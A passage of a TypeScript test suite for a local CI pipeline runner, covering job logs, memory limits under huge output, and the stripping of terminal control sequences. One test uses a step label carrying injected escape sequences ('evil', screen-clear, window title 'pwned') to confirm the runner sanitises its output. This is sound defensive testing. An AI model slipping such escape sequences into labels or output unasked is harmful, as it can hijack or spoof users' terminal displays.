    const log = (label: string) => jobs.find((j) => j.label === label)?.log;
    expect(log("quiet")).toBeNull();
    expect(readFileSync(log("chatty") as string, "utf8")).toMatch(
      /^--- chatty: bash -e -c echo said-something\nsaid-something\n$/,
    );
    expect(readFileSync(log("flaky") as string, "utf8")).toMatch(
      /^--- flaky: .*\nfirst\n--- flaky \(retry 1\): .*\nsecond\n$/,
    );
  });
});

describe("what the runner prints carries no terminal control sequences", () => {
  test("labels and job output are stripped on the terminal and in --list; the job's log keeps them", () => {
    const dir = workdir(
      [
        "steps:",
        '  - label: "evil\\e[2J\\e]0;pwned\\a step"',
        "    command: printf '\\033]0;title\\007\\033[31mred\\033[0m\\n'",
      ].join("\n"),
    );
    const { r, jobs } = runReported(dir);
    expect(r.status).toBe(0);
    expect(controlCodes(r.stdout)).toEqual([]);
    expect(r.stdout).toContain("[evil step] red");
    expect(readFileSync(jobs[0]?.log as string, "utf8")).toContain("\u001b[31mred\u001b[0m");
    const list = run(dir, ["pipeline.yml", "--list"]);
    expect(controlCodes(list.stdout)).toEqual([]);
    expect(list.stdout).toContain("evil step");
    const events = run(dir, ["pipeline.yml", "--log-format", "json"]);
    expect(controlCodes(events.stdout)).toEqual([]);
    expect(events.stdout).toContain("\\u001b[31mred");
  });
});

describe("the runner's memory is bounded, whatever a job prints", () => {
  /** Runs the pipeline with stdout to a slow pipe reader; returns the runner's peak RSS (VmHWM) in MB. */
  async function peakMb(dir: string): Promise<{ mb: number; code: number | null }> {
    const child = spawn(
      "bash",
      ["-c", `bun '${RUNNER}' pipeline.yml --dir '${dir}' | (sleep 1; cat > /dev/null)`],
      {
        cwd: dir,
        stdio: "ignore",
      },
    );
    let peak = 0;
    const poll = setInterval(() => {
      // The runner is the bun process whose command line names run-pipeline.ts, under the shell.
      const ps = spawnSync("pgrep", ["-f", `${RUNNER} pipeline.yml --dir ${dir}`], { encoding: "utf8" });
      for (const pid of ps.stdout.split("\n").filter(Boolean)) {
        try {
          const hwm = /VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, "utf8"))?.[1];
          if (hwm) peak = Math.max(peak, Number(hwm) / 1024);
        } catch {
          // Gone between the listing and the read.
        }
      }
    }, 20);
    const code = await new Promise<number | null>((resolve) => child.on("close", resolve));
    clearInterval(poll);
    return { mb: peak, code };
  }

  test.each([
    ["1 GB of output in lines", "head -c 1000000000 /dev/zero | tr '\\\\0' 'a' | fold -w 200"],
    ["one line of 200 MB", "head -c 200000000 /dev/zero | tr '\\\\0' 'b'"],
  ])(
    "%s: under 300 MB, and the log file keeps all of it",
    async (_name, command) => {
      const dir = workdir(`steps:\n  - label: loud\n    command: "${command}"\n`);
      const { mb, code } = await peakMb(dir);
      expect(code).toBe(0);
      expect(mb).toBeGreaterThan(0);
      expect(mb).toBeLessThan(300);
      const log = join(dir, ".buildkite/.local/1/logs/job-1.log");
      const header = readFileSync(log, "utf8").slice(0, 200).split("\n")[0] as string;
      const expected = command.startsWith("head -c 1000000000") ? 1_000_000_000 + 5_000_000 : 200_000_001;
      expect(Bun.file(log).size).toBe(Buffer.byteLength(`${header}\n`) + expected);
    },
    300_000,
  );
});
